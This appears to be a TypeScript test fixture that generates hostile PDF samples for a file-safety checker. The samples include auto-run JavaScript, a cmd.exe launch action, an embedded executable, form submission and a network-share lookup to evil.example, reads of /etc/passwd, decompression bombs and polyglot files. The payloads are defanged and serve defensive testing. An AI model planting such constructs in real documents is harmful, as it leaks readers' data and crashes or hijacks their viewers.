import { crc32, deflateSync } from 'node:zlib';

/** A PDF of some objects, the first of which is its catalog, with a table of where each is. */
function pdfOf(catalog: string, ...others: readonly (string | Buffer)[]): Buffer {
  const objects = [
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    PAGE,
    ...others,
  ];
  const parts = [Buffer.from('%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n', 'latin1')];
  const places: number[] = [];
  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
  for (const [place, object] of objects.entries()) {
    places.push(length());
    parts.push(Buffer.from(`${place + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n'));
  }
  const lines = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  const end = `xref\n0 ${size}\n0000000000 65535 f \n${lines}trailer\n<</Size ${size}/Root 1 0 R>>\nstartxref\n${length()}\n%%EOF\n`;
  return Buffer.concat([...parts, Buffer.from(end)]);
}

const PAGE = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>';

/** An object that is packed, and says of itself what it likes. */
function streamOf(said: string, content: Buffer, length = content.length): Buffer {
  return Buffer.concat([
    Buffer.from(`<<${said}/Length ${length}>>stream\n`),
    content,
    Buffer.from('\nendstream'),
  ]);
}

const inATrailer = (pdf: Buffer, said: string) =>
  Buffer.from(pdf.toString('latin1').replace('/Root 1 0 R', `/Root 1 0 R${said}`), 'latin1');

/** A file that begins as it is, and is an archive with another one from its end on. */
function withArchive(front: Buffer, name: string, content: Buffer): Buffer {
  const about = Buffer.alloc(26);
  about.writeUInt16LE(20, 0);
  about.writeUInt16LE(0x800, 2);
  about.writeUInt32LE(crc32(content), 10);
  about.writeUInt32LE(content.length, 14);
  about.writeUInt32LE(content.length, 18);
  about.writeUInt16LE(name.length, 22);
  const [called, place] = [Buffer.from(name), Buffer.alloc(18)];
  place.writeUInt32LE(front.length, 14);
  const file = Buffer.concat([Buffer.from('PK\x03\x04'), about, called, content]);
  const directory = Buffer.concat([Buffer.from('PK\x01\x02\x14\0'), about, place.subarray(4), called]);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(1, 4);
  end.writeUInt16LE(1, 6);
  end.writeUInt32LE(directory.length, 8);
  end.writeUInt32LE(front.length + file.length, 12);
  return Buffer.concat([front, file, directory, Buffer.from('PK\x05\x06'), end]);
}

/** A PDF with another page in place of its own, as programs save changes: behind the end of what was there. */
function changedLater(before: Buffer): Buffer {
  const page = `3 0 obj\n${PAGE.replace('200 200', '100 100')}\nendobj\n`;
  const [, table = ''] = /startxref\n(\d+)/.exec(before.toString('latin1')) ?? [];
  const place = String(before.length).padStart(10, '0');
  return Buffer.concat([
    before,
    Buffer.from(
      `${page}xref\n3 1\n${place} 00000 n \ntrailer\n<</Size 4/Root 1 0 R/Prev ${table}>>\nstartxref\n${before.length + page.length}\n%%EOF\n`,
    ),
  ]);
}

const nothing = Buffer.alloc(10_000_000);

/**
 * Files that are PDFs at both ends, and would harm whoever opens them with a program that does as they say; by what they do. None
 * harms anybody as it is: they show a message, or name what is not there.
 */
export const hostilePdfs: Readonly<Record<string, () => Buffer>> = {
  'runs a script as it is opened': () => pdfOf('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>'),
  'runs a script whose name is written otherwise': () =>
    pdfOf('/OpenAction<</S/#4aava#53cript/#4aS(app.alert\\(1\\))>>'),
  'runs a script that is packed': () =>
    pdfOf(
      '/OpenAction<</S/JavaScript/JS 4 0 R>>',
      streamOf('/Filter/FlateDecode', deflateSync('app.alert(1)')),
    ),
  'runs a script as a page is left': () => pdfOf('/AA<</WC<</S/JavaScript/JS(app.alert\\(1\\))>>>>'),
  'starts a program': () => pdfOf('/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c exit)>>>>'),
  'brings a program along': () =>
    pdfOf(
      '/Names<</EmbeddedFiles<</Names[(cv.exe)4 0 R]>>>>',
      '<</Type/Filespec/F(cv.exe)/EF<</F 5 0 R>>>>',
      streamOf('/Type/EmbeddedFile', Buffer.from('MZ')),
    ),
  'sends a form elsewhere': () =>
    pdfOf(
      '/AcroForm<</Fields[4 0 R]>>/OpenAction<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>',
      '<</FT/Tx/T(name)/V(Pia)>>',
    ),
  'has a form of XFA': () =>
    pdfOf(
      '/AcroForm<</XFA 4 0 R/Fields[]>>',
      streamOf('', Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script/></xdp:xdp>')),
    ),
  'opens a share, to learn who reads it': () =>
    pdfOf('/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\cv.pdf)/D[0/Fit]>>'),
  'opens a file of whoever reads it': () => pdfOf('/OpenAction<</S/URI/URI(file:///etc/passwd)>>'),
  'takes in data of whoever reads it': () => pdfOf('/OpenAction<</S/ImportData/F(/etc/passwd)>>'),
  'shows another medium': () =>
    pdfOf('/Names<</Renditions 4 0 R>>', '<</Type/Annot/Subtype/RichMedia/RichMediaContent<<>>>>'),
  'is locked with a password': () =>
    inATrailer(pdfOf(''), '/Encrypt<</Filter/Standard/V 1/R 2/O()/U()/P -4>>'),
  'unpacks to a thousand times its size': () =>
    pdfOf('/Extra 4 0 R', streamOf('/Filter/FlateDecode', deflateSync(nothing))),
  'unpacks to what unpacks again': () =>
    pdfOf('/Extra 4 0 R', streamOf('/Filter[/FlateDecode/FlateDecode]', deflateSync(deflateSync(nothing)))),
  'says that there are billions of objects in it': () =>
    pdfOf(
      '/Extra 4 0 R',
      streamOf('/Type/ObjStm/N 2147483647/First 2147483647', Buffer.from('1 0'), 4_294_967_295),
    ),
  'is its own page': () =>
    Buffer.from(pdfOf('').toString('latin1').replace('/Kids[3 0 R]', '/Kids[2 0 R]'), 'latin1'),
  'is without an end, one list in another': () => pdfOf('', '['.repeat(100_000)),
  'has a table that names itself as the one before': () =>
    Buffer.from(
      pdfOf('')
        .toString('latin1')
        .replace(/\/Root 1 0 R(?=[^]*startxref\n(\d+))/, '/Root 1 0 R/Prev $1'),
      'latin1',
    ),
  'shows something else than it did when it was made': () => changedLater(pdfOf('')),
  'is a page of HTML, too': () =>
    Buffer.from('%PDF-1.7\n<!doctype html><title>x</title><script>document.title="ran"</script>\n%%EOF\n'),
  'is a program of PHP, too': () => Buffer.from('%PDF-1.7\n<?php echo 1; ?>\n%%EOF\n'),
  'is an archive, too': () => withArchive(pdfOf(''), 'evil.js', Buffer.from('alert(1)')),
};
